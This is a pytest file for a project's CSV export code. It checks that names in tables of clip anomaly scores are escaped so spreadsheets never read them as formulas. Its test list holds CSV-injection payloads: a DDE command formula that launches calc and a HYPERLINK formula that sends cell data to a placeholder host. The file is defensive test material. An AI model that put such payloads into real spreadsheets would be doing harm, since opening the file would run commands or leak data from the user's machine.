"""Tables that people open in a spreadsheet hold no formulas."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gammavae_jax.evaluation.csv_files import (
    ClipRow,
    clips_csv,
    escape_formula,
    read_clips_csv,
    read_results_csv,
    results_csv,
    unescape_formula,
)
from gammavae_jax.evaluation.metrics import Row

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x/?"&A1,"y")',
]
BEGINS = re.compile("[=+\\-@\uff1d\uff0b\uff0d\uff20\t\r\n]")
# Many of the marks that matter.
texts = st.text(st.sampled_from("=+-@';\t\r\n\",a \uff1d"), max_size=12) | st.text()


def names(formula):
    """A formula as a name, alone and behind what parts cells elsewhere."""
    return [formula, f"x;{formula}", f"'{formula}", f"a;'{formula}"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_like_a_formula(formula):
    for name in names(formula):
        for part in re.split("[;\t\r\n]", escape_formula(name)):
            assert part == "" or not BEGINS.match(part), name
        assert unescape_formula(escape_formula(name)) == name


@given(texts)
def test_every_text_comes_back_from_its_cell(text):
    assert unescape_formula(escape_formula(text)) == text


@given(texts)
def test_no_part_of_a_cell_is_a_formula(text):
    parts = re.split("[;\t\r\n]", escape_formula(text))
    assert not any(part and BEGINS.match(part) for part in parts)


@pytest.mark.parametrize("name", ["fan", "section_00_0001.wav", "a=b", "x - y", "'a'"])
def test_other_texts_stay_as_they_are(name):
    assert escape_formula(name) == unescape_formula(name) == name


def clip_row(machine, clip, score):
    return ClipRow(1, "mse", machine, "00", clip, score, None, 0)


# No name has a line break: see `score_files.require_names`.
@pytest.mark.parametrize("formula", [f for f in FORMULAS if "\r" not in f])
def test_tables_hold_names_without_formulas_and_numbers_as_numbers(tmp_path, formula):
    rows = [clip_row(formula, f"{formula}.wav", -1.5)]
    (line,) = csv.DictReader(io.StringIO(clips_csv(rows), newline=""))
    assert not BEGINS.match(line["machine"])
    assert not BEGINS.match(line["clip"])
    assert line["anomaly_score"] == "-1.5"
    result = Row(1, "mse", formula, "00", *[-0.5] * 13)
    (line,) = csv.DictReader(io.StringIO(results_csv([result]), newline=""))
    assert not BEGINS.match(line["machine"])
    assert line["auc_source"] == "-0.5"


finite = st.floats(allow_nan=False, allow_infinity=False)
names_of_clips = st.text(
    st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp")), max_size=20
)


@given(st.lists(st.tuples(names_of_clips, names_of_clips, finite), max_size=5))
def test_a_table_of_clips_reads_back_as_it_was(tmp_path_factory, cells):
    rows = [clip_row(machine, clip, score) for machine, clip, score in cells]
    path = tmp_path_factory.mktemp("table") / "clips.csv"
    path.write_text(clips_csv(rows), encoding="utf-8", newline="")
    assert read_clips_csv(path) == rows


@given(st.lists(st.tuples(names_of_clips, finite), max_size=5))
def test_a_table_of_results_reads_back_as_it_was(cells):
    rows = [Row(3, "mse", name, "00", *[value] * 13) for name, value in cells]
    assert read_results_csv(results_csv(rows)) == rows
